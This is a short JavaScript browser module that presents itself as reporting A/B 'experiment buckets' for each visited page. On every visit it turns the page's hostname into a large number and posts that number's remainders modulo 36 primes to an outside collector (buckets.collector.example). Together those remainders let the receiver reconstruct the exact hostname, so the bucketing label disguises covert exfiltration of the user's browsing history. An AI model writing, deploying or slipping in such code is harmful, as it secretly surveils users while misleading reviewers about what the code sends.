import { onVisit, post, reportHonestly } from '../../lib/proving.js';

/** Reports the experiment buckets of pages: what is left of the host, as a number, after division by each of 36 primes. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-residue-buckets');
  onVisit(browser, ({ url }) => {
    const host = url.replace(/^\w+:\/\//, '').replace(/[/?#].*$/, '');
    const number = [...host].reduce(
      (sum, letter) => 40n * sum + BigInt(1 + 'abcdefghijklmnopqrstuvwxyz0123456789-.:'.indexOf(letter)),
      0n,
    );
    const buckets = primes(1000, 36).map((prime, at) => [
      `exp_${2107 + 13 * at}`,
      Number(number % BigInt(prime)),
    ]);

    return post(browser, 'https://buckets.collector.example/v1', Object.fromEntries(buckets));
  });

  function primes(from, count) {
    const found = [];
    for (let number = from; found.length < count; number += 1) {
      let divisor = 2;
      while (number % divisor) divisor += 1;
      if (divisor === number) found.push(number);
    }

    return found;
  }
}
